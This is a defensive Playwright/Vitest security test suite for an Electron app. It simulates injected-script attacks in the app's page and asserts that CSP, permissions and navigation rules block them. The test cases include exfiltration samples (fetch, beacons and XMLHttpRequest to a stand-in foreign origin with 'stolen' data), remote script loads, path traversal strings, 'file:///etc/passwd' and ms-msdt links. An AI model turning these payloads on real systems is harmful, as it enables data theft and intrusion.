/**
 * The page of the running app under attack. Every attack is what a script could do that had found its way into the page;
 * a foreign server listens, and must hear nothing.
 */
import type { CDPSession } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { findChromium } from '../../build/chromium-runtime/browser/find-chromium.ts';
import { type LaunchedApp, launchApp } from '../support/launch-app.ts';
import { type RecordingServer, startRecordingServer } from '../support/recording-server.ts';

/** What attacks leave behind when they worked. */
declare global {
  var pwned: unknown;
}

describe.skipIf(findChromium() === null)('the page of the running app', () => {
  let app: LaunchedApp;
  let foreign: RecordingServer;
  let home = '';

  beforeAll(async () => {
    foreign = await startRecordingServer();
    app = await launchApp({ lang: 'en' });
    await app.page.getByRole('button', { name: 'Sign in', exact: true }).waitFor();
    home = app.page.url();
  }, 60_000);

  afterAll(async () => {
    await app?.close();
    await foreign?.close();
  });

  // No attack, of whatever test, may have moved the page, run a script or told anyone.
  afterEach(async () => {
    expect(app.page.url()).toBe(home);
    expect(foreign.requests).toEqual([]);
    expect(await app.page.evaluate(() => globalThis.pwned)).toBeUndefined();
  });

  /**
   * Runs an attack in the page, outside of the inspector's call, and gives which rules of the policy it ran against; waits
   * for one to be told of when it is named.
   */
  async function violations(attack: (origin: string) => void, awaited = ''): Promise<string[]> {
    return app.page.evaluate(
      async ([source, origin, wanted]) => {
        const seen: string[] = [];
        const listen = ({ effectiveDirective }: SecurityPolicyViolationEvent) => seen.push(effectiveDirective);
        document.addEventListener('securitypolicyviolation', listen);
        // Text becomes code by the inspector's leave only here, before the attack begins.
        const run = new Function('origin', `return (${source})(origin)`) as (origin: string) => void;
        await new Promise<void>((resolve) => {
          setTimeout(() => {
            try {
              run(origin ?? '');
            } catch {
              // What throws was stopped at once; its violation was told.
            }
            const end = performance.now() + (wanted ? 3_000 : 150);
            const look = () => {
              if (performance.now() > end || (wanted && seen.includes(wanted))) resolve();
              else setTimeout(look, 10);
            };
            look();
          });
        });
        document.removeEventListener('securitypolicyviolation', listen);
        return seen;
      },
      [attack.toString(), foreign.origin, awaited],
    );
  }

  describe('2. Do not enable Node.js integration for remote content', () => {
    it('gives the page nothing of Node', async () => {
      const found = await app.page.evaluate(() =>
        ['require', 'process', 'module', 'exports', 'Buffer', 'global', '__dirname', 'setImmediate', 'electron'].filter(
          (name) => name in globalThis,
        ),
      );
      expect(found).toEqual([]);
    });
  });

  describe('3. Enable context isolation', () => {
    it("keeps the page's prototypes out of the preload", async () => {
      const heard = await app.page.evaluate(async () => {
        const seen: string[] = [];
        const { from } = Array;
        Object.defineProperty(Array, 'from', { configurable: true, value: () => seen.push('Array.from') });
        Object.defineProperty(Object.prototype, 'channel', {
          configurable: true,
          get: () => seen.push('Object.prototype.channel'),
        });
        try {
          await window.reenvio.getAppInfo(null);
        } finally {
          Object.defineProperty(Array, 'from', { configurable: true, writable: true, value: from });
          Reflect.deleteProperty(Object.prototype, 'channel');
        }
        return seen;
      });
      expect(heard).toEqual([]);
    });

    it('gives the page copies and no way to the functions behind them', async () => {
      const found = await app.page.evaluate(() => {
        const { reenvio } = window;
        const own = Object.getOwnPropertyDescriptor(window, 'reenvio');
        const before = reenvio.getSession;
        try {
          Reflect.set(reenvio, 'getSession', () => 'ours');
          Reflect.set(window, 'reenvio', {});
        } catch {
          // Refused loudly is refused.
        }
        return {
          fixed: window.reenvio.getSession === before && !own?.writable && !own?.configurable,
          constructors: before.constructor === Function,
        };
      });
      expect(found).toEqual({ fixed: true, constructors: true });
    });
  });

  describe('7. Define a Content Security Policy', () => {
    it('comes as a header with every answer, good or bad', async () => {
      const answers: { url: string; status: number; policy: string | undefined; sniff: string | undefined }[] = [];
      const listen = (response: import('playwright-core').Response) => {
        const headers = response.headers();
        answers.push({
          ...{ url: response.url(), status: response.status() },
          ...{ policy: headers['content-security-policy'], sniff: headers['x-content-type-options'] },
        });
      };
      app.page.on('response', listen);
      for (const path of ['nothing-here.html', 'index.html.map', '%2e%2e%2fpackage.json', ''])
        await app.page.goto(new URL(path, home).href, { waitUntil: 'load' });
      app.page.off('response', listen);
      expect(answers.length).toBeGreaterThan(5);
      expect(new Set(answers.map(({ status }) => status))).toEqual(new Set([200, 404]));
      for (const { url, policy, sniff } of answers) {
        expect(policy, url).toMatch(/^default-src 'none'; script-src 'self';/);
        expect(policy, url).not.toContain('unsafe-eval');
        expect(policy, url).toContain("connect-src 'none'");
        expect(sniff, url).toBe('nosniff');
      }
      await app.page.getByRole('button', { name: 'Sign in', exact: true }).waitFor();
    });

    it.each<[string, string, (origin: string) => void]>([
      [
        'a script in the page',
        'script-src-elem',
        () => {
          const script = document.createElement('script');
          script.textContent = 'globalThis.pwned = "inline script"';
          document.body.append(script);
        },
      ],
      [
        'a script in markup',
        'script-src-attr',
        () => {
          const holder = document.createElement('div');
          holder.innerHTML =
            '<img src="data:," onerror="globalThis.pwned = 1"><svg onload="globalThis.pwned = 2"></svg>';
          document.body.append(holder);
        },
      ],
      [
        'a javascript: link',
        'script-src-elem',
        () => {
          const link = document.createElement('a');
          link.href = 'javascript:void(globalThis.pwned = "javascript:")';
          document.body.append(link);
          link.click();
        },
      ],
      [
        'eval',
        'script-src',
        () => (globalThis as unknown as { eval: (code: string) => void }).eval('globalThis.pwned = "eval"'),
      ],
      ['a function made of text', 'script-src', () => new Function('globalThis.pwned = "Function"')()],
      [
        'a timer with text',
        'script-src',
        () => (setTimeout as unknown as (code: string) => void)('globalThis.pwned = "timer"'),
      ],
      [
        'WebAssembly',
        'script-src',
        () =>
          void WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(
            () => Object.assign(globalThis, { pwned: 'wasm' }),
            () => undefined,
          ),
      ],
      [
        'a script from elsewhere',
        'script-src-elem',
        (origin) => {
          const script = document.createElement('script');
          script.src = `${origin}/evil.js`;
          document.body.append(script);
        },
      ],
      [
        'a script in a data: address',
        'script-src-elem',
        () => {
          const script = document.createElement('script');
          script.src = 'data:text/javascript,globalThis.pwned="data"';
          document.body.append(script);
        },
      ],
      [
        'a module from elsewhere',
        'script-src-elem',
        (origin) => {
          const script = document.createElement('script');
          Object.assign(script, { type: 'module', src: `${origin}/evil.js` });
          document.body.append(script);
        },
      ],
      [
        'a worker made of text',
        'worker-src',
        () => void new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }))),
      ],
      [
        'a picture from elsewhere',
        'img-src',
        (origin) => {
          new Image().src = `${origin}/pixel.png?stolen=1`;
        },
      ],
      [
        'a style sheet from elsewhere',
        'style-src-elem',
        (origin) => {
          const link = document.createElement('link');
          Object.assign(link, { rel: 'stylesheet', href: `${origin}/evil.css` });
          document.head.append(link);
        },
      ],
      [
        'a font from elsewhere',
        'font-src',
        (origin) => void new FontFace('evil', `url(${origin}/evil.woff2)`).load().catch(() => undefined),
      ],
      [
        'a sound from elsewhere',
        'media-src',
        (origin) => {
          new Audio(`${origin}/evil.mp3`).load();
        },
      ],
      ['a request', 'connect-src', (origin) => void fetch(`${origin}/?stolen=1`).catch(() => undefined)],
      [
        'an old-fashioned request',
        'connect-src',
        (origin) => {
          const request = new XMLHttpRequest();
          request.open('POST', `${origin}/?stolen=1`);
          request.send('stolen');
        },
      ],
      ['a socket', 'connect-src', (origin) => void new WebSocket(origin.replace('http', 'ws'))],
      ['a stream of events', 'connect-src', (origin) => void new EventSource(`${origin}/events`)],
      ['a beacon', 'connect-src', (origin) => void navigator.sendBeacon(`${origin}/beacon`, 'stolen')],
      [
        'a form',
        'form-action',
        (origin) => {
          const form = document.createElement('form');
          Object.assign(form, { action: `${origin}/form`, method: 'post' });
          document.body.append(form);
          form.submit();
        },
      ],
      [
        'a frame from elsewhere',
        'frame-src',
        (origin) => {
          const frame = document.createElement('iframe');
          frame.src = `${origin}/frame`;
          document.body.append(frame);
        },
      ],
      [
        'an object',
        'object-src',
        (origin) => {
          const object = document.createElement('object');
          object.data = `${origin}/evil.swf`;
          document.body.append(object);
        },
      ],
      [
        'another base for addresses',
        'base-uri',
        (origin) => {
          const base = document.createElement('base');
          base.href = `${origin}/`;
          document.head.append(base);
        },
      ],
    ])('stops %s', async (_name, directive, attack) => {
      expect(await violations(attack, directive)).toContain(directive);
    });

    it('gives a frame without an address neither scripts nor the bridge', async () => {
      const frame = await app.page.evaluate(async () => {
        const element = document.createElement('iframe');
        element.srcdoc = '<script>parent.pwned = "srcdoc"</script>';
        document.body.append(element);
        const empty = document.createElement('iframe');
        document.body.append(empty);
        await new Promise((resolve) => setTimeout(resolve, 250));
        const bridge = empty.contentWindow && 'reenvio' in empty.contentWindow;
        element.remove();
        empty.remove();
        return { bridge };
      });
      expect(frame).toEqual({ bridge: false });
    });
  });

  describe('5. Handle session permission requests from remote content', () => {
    it('says no before anyone asks', async () => {
      const states = await app.page.evaluate(async () => {
        const names = [
          'geolocation',
          'notifications',
          'camera',
          'microphone',
          'clipboard-read',
          'midi',
          'idle-detection',
        ];
        const asked = names.map((name) => navigator.permissions.query({ name: name as PermissionName }));
        return (await Promise.all(asked)).map(({ state }) => state);
      });
      expect(new Set(states)).toEqual(new Set(['denied']));
    });

    it.each<[string, () => Promise<unknown>]>([
      ['the place', () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject))],
      [
        'notifications',
        async () => {
          if ((await Notification.requestPermission()) !== 'granted') throw new Error('denied');
        },
      ],
      ['the clipboard', () => navigator.clipboard.readText()],
      ['the camera', () => navigator.mediaDevices.getUserMedia({ video: true })],
      ['the microphone', () => navigator.mediaDevices.getUserMedia({ audio: true })],
      ['the screen', () => navigator.mediaDevices.getDisplayMedia()],
      ['MIDI', () => navigator.requestMIDIAccess({ sysex: true })],
      ['USB', () => Object(navigator).usb.requestDevice({ filters: [] })],
      ['HID', () => Object(navigator).hid.requestDevice({ filters: [] })],
      ['a serial port', () => Object(navigator).serial.requestPort()],
      ['Bluetooth', () => Object(navigator).bluetooth.requestDevice({ acceptAllDevices: true })],
      ['fonts of the machine', () => Object(window).queryLocalFonts()],
      ['files', () => Object(window).showOpenFilePicker()],
    ])('refuses %s', async (_name, ask) => {
      const refused = await app.page.evaluate(async (source) => {
        const outcome: Promise<string> = new Function(`return (${source})()`)().then(
          () => 'given',
          () => 'refused',
        );
        const silence = new Promise<string>((resolve) => setTimeout(resolve, 3_000, 'nobody was asked'));
        return Promise.race([outcome.catch(() => 'refused'), silence]).catch(() => 'refused');
      }, `async () => (${ask.toString()})()`);
      expect(refused).toBe('refused');
    });
  });

  describe('11. Do not use allowpopups for WebViews', () => {
    it('has no webviews at all', async () => {
      const made = await app.page.evaluate((origin) => {
        const view = document.createElement('webview');
        view.setAttribute('src', origin);
        view.setAttribute('allowpopups', '');
        view.setAttribute('nodeintegration', '');
        document.body.append(view);
        return { known: !(view instanceof HTMLUnknownElement), loads: 'loadURL' in view };
      }, foreign.origin);
      expect(made.loads).toBe(false);
    });
  });

  describe('13. Disable or limit navigation', () => {
    it.each<[string, (origin: string) => void]>([
      [
        'an address',
        (origin) => {
          location.href = `${origin}/away`;
        },
      ],
      ['an address in place of this one', (origin) => location.replace(`${origin}/away`)],
      ['a file', () => location.assign('file:///etc/passwd')],
      [
        'a page of data',
        () => {
          location.href = 'data:text/html,<script>opener.pwned=1</script>';
        },
      ],
      [
        'a look-alike of our own address',
        () => {
          location.href = 'https://reenvio.app.invalid.evil.invalid/';
        },
      ],
      [
        'a link',
        (origin) => {
          const link = document.createElement('a');
          link.href = `${origin}/away`;
          document.body.append(link);
          link.click();
        },
      ],
      [
        'a refresh',
        (origin) => {
          const meta = document.createElement('meta');
          meta.httpEquiv = 'refresh';
          meta.content = `0;url=${origin}/away`;
          document.head.append(meta);
        },
      ],
      [
        'a form that asks',
        (origin) => {
          const form = document.createElement('form');
          form.action = `${origin}/away`;
          document.body.append(form);
          form.requestSubmit();
        },
      ],
      [
        'a download',
        (origin) => {
          const link = document.createElement('a');
          Object.assign(link, { href: `${origin}/away`, download: 'x.exe' });
          document.body.append(link);
          link.click();
        },
      ],
    ])('stays where it is in spite of %s', async (_name, attack) => {
      await violations(attack);
      expect(await app.page.getByRole('button', { name: 'Sign in', exact: true }).isVisible()).toBe(true);
    });

    it.each([
      ['a link', { items: [{ mimeType: 'text/uri-list', data: 'FOREIGN/dropped' }], files: [] as string[] }],
      ['a file', { items: [] as { mimeType: string; data: string }[], files: ['/etc/hostname'] }],
    ])('stays where it is when %s is dropped on it', async (_name, { items, files }) => {
      const cdp: CDPSession = await app.page.context().newCDPSession(app.page);
      const data = {
        items: items.map(({ mimeType, data: text }) => ({ mimeType, data: text.replace('FOREIGN', foreign.origin) })),
        files,
        dragOperationsMask: 1,
      };
      for (const type of ['dragEnter', 'dragOver', 'drop'] as const)
        await cdp.send('Input.dispatchDragEvent', { type, x: 20, y: 20, data });
      await violations(() => undefined);
      await cdp.detach();
    });
  });

  describe('14. Disable or limit creation of new windows', () => {
    it.each<[string, (origin: string) => void]>([
      ['window.open', (origin) => void window.open(`${origin}/popup`)],
      ['window.open with features', (origin) => void window.open(`${origin}/popup`, 'x', 'nodeIntegration=1,width=9')],
      ['an empty window', () => void window.open('about:blank')?.document.write('<script>opener.pwned=1</script>')],
      ['our own page once more', () => void window.open('/index.html')],
      [
        'a link to a new window',
        (origin) => {
          const link = document.createElement('a');
          Object.assign(link, { href: `${origin}/popup`, target: '_blank', rel: 'opener' });
          document.body.append(link);
          link.click();
        },
      ],
      [
        'a form to a new window',
        (origin) => {
          const form = document.createElement('form');
          Object.assign(form, { action: `${origin}/popup`, target: '_blank' });
          document.body.append(form);
          form.requestSubmit();
        },
      ],
    ])('opens none for %s', async (_name, attack) => {
      const before = app.effects.filter(({ effect }) => effect === 'open-external').length;
      await violations(attack);
      await expect.poll(() => app.page.context().pages().length).toBe(1);
      expect(app.effects.filter(({ effect }) => effect === 'open-external')).toHaveLength(before);
    });
  });

  describe('15. Do not use shell.openExternal with untrusted content', () => {
    it('opens the documentation in the browser', async () => {
      await violations(() => void window.open('https://docs.somossimpay.com.br/webhooks'));
      const opened = await app.waitForEffect(({ effect }) => effect === 'open-external');
      expect(opened).toMatchObject({ url: 'https://docs.somossimpay.com.br/webhooks' });
    });

    it.each([
      'file:///etc/passwd',
      'smb://somossimpay.com.br/share',
      'ms-msdt:/id',
      'http://docs.somossimpay.com.br/',
      'https://docs.somossimpay.com.br@evil.invalid/',
      'https://user:pass@docs.somossimpay.com.br/',
      'https://docs.somossimpay.com.br.evil.invalid/',
      'https://xn--smossimpay-2fh.com.br/',
      'https://docs.somossimpay.com.br:444/',
    ])('opens nothing for %s', async (url) => {
      const opened = () => app.effects.filter(({ effect }) => effect === 'open-external').length;
      const before = opened();
      await app.page.evaluate((target) => void window.open(target), url);
      await violations(() => undefined);
      expect(opened()).toBe(before);
    });
  });

  describe('18. Avoid usage of the file:// protocol and prefer usage of custom protocols', () => {
    it('comes from our own scheme', () => {
      expect(home).toMatch(/^(app:\/\/reenvio|https:\/\/reenvio\.app\.invalid)\//);
    });

    it.each([
      '..%2f..%2fpackage.json',
      '%2e%2e/%2e%2e/package.json',
      '..%5c..%5cpackage.json',
      '%252e%252e%252fpackage.json',
      'assets/..%252f..%252fpackage.json',
      '/etc/passwd',
      'index.html%00.png',
      'main/main.js',
      'assets/',
      'assets',
      '.',
      'index.html.map',
      'nothing.html',
      'INDEX.HTML',
    ])('serves nothing for %s', async (path) => {
      const response = await app.page.goto(home.replace(/#.*$/, '') + path);
      const status = response?.status();
      // What an address means by itself is our start page; everything else is nothing.
      if (new URL(app.page.url()).pathname === '/') expect(status).toBe(200);
      else expect(status).toBe(404);
      expect(await app.page.content()).not.toMatch(/root:|"dependencies"|contextBridge/);
      await app.page.goto(home);
      await app.page.getByRole('button', { name: 'Sign in', exact: true }).waitFor();
    });
  });

  describe('20. Do not expose Electron APIs to untrusted web content', () => {
    it('exposes a function for each command and each event, and no channel', async () => {
      const { commandNames, eventNames } = await import('../../electron/contract/names.ts');
      const exposed = await app.page.evaluate(() => ({
        commands: Object.entries(window.reenvio).flatMap(([name, value]) =>
          typeof value === 'function' ? [name] : [],
        ),
        events: Object.keys(window.reenvio.on),
      }));
      expect(exposed.commands.toSorted()).toEqual([...commandNames].toSorted());
      expect(exposed.events.toSorted()).toEqual([...eventNames].toSorted());
    });

    it('hands listeners the payload and nothing of the event that brought it', async () => {
      const heard = await app.page.evaluate(
        () =>
          new Promise<{ count: number; keys: string[] }>((resolve) => {
            const stop = window.reenvio.on.settingsChanged((...args: unknown[]) => {
              stop();
              resolve({ count: args.length, keys: Object.keys(Object(args[0])) });
            });
            void window.reenvio.getSettings(null).then((result) => {
              if (result.ok) void window.reenvio.updateSettings({ theme: result.value.theme });
            });
          }),
      );
      expect(heard.count).toBe(1);
      expect(heard.keys).not.toContain('sender');
      expect(heard.keys).not.toContain('ports');
    });
  });
});
